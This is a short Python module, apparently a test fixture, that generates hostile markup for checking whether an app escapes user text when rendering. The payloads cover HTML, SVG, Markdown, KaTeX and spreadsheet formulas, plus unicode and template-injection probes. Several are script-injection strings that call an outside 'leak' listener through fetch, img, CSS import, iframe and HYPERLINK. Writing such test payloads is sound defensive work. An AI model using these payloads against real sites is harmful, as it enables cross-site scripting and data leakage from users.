"""Text that means harm: markup in every dialect that a browser, Streamlit, Plotly, KaTeX or a spreadsheet reads.

Every piece holds MARK, so that an element or a request made of one is told from the app's own; a word of WORDS that
stands alone in an element was read as markup. leak: the address of a listener outside the app.
"""

MARK = "pwnd"
WORDS = tuple(MARK + kind for kind in ("bold", "tag", "red", "math", "link", "code", "strike", "quoted", "title"))
LONG = "W" * 300
"""A word that no line can break."""


def seen(place: str) -> str:
    """Return the beginning of a text: a page that shows it unchanged has these characters."""
    return f"<img src=x onerror=__pwnd()> at {place}:"


def harm(place: str, leak: str) -> str:
    """Return a text that begins with `seen(place)`, then tries everything."""
    return " ".join(
        (
            seen(place),
            f"<script>fetch('{leak}/{MARK}-script');window.__pwnd()</script>",
            f"<img src={leak}/{MARK}-img>",
            f'"><svg onload="__pwnd()"><a href="{leak}/{MARK}-svg">{MARK}tag</a></svg>',
            f"<style>@import url({leak}/{MARK}-css);</style>",
            f"<iframe src='{leak}/{MARK}-frame'></iframe></textarea></title></script><b>{MARK}tag</b>",
            f"<a href='javascript:__pwnd()'>{MARK}link</a>",
            f"![{MARK}link]({leak}/{MARK}-md.png) [{MARK}link](javascript:__pwnd()) [{MARK}link][{MARK}]",
            f"<{leak}/{MARK}-auto> {leak}/{MARK}-bare www.{MARK}.example {MARK}@{MARK}.example",
            f"**{MARK}bold** `{MARK}code` ~~{MARK}strike~~ :red[{MARK}red] :material/skull: :skull:",
            f"${MARK}math$ $$\\href{{{leak}/{MARK}-tex}}{{{MARK}math}}$$",
            f"&lt;{MARK}entity&gt; &#60;{MARK}entity&#62;",
            "\N{RIGHT-TO-LEFT OVERRIDE}reversed\N{POP DIRECTIONAL FORMATTING} zero\N{ZERO WIDTH SPACE}width \x1b[31m",
            f"{LONG} </{MARK}> ]]> --> */ {{{{7*7}}}} ${{7*7}}",
            f"\n\n# {MARK}title\n\n> {MARK}quoted\n\n[{MARK}]: {leak}/{MARK}-ref\n",
        )
    )


def short(place: str, leak: str) -> str:
    """Return the like for what must be short: a label, a name, a cell."""
    return (
        f"{seen(place)} ![{MARK}link]({leak}/{MARK}-md) **{MARK}bold** :red[{MARK}red] ${MARK}math$ "
        f"<a href='{leak}/{MARK}-a'>{MARK}link</a> <b>{MARK}tag</b> &lt;{MARK}entity&gt; \N{RIGHT-TO-LEFT OVERRIDE}x"
    )


def formula(place: str, leak: str) -> str:
    """Return a text that a spreadsheet would take for a formula."""
    return f'=HYPERLINK("{leak}/{MARK}-cell","{seen(place)}")'
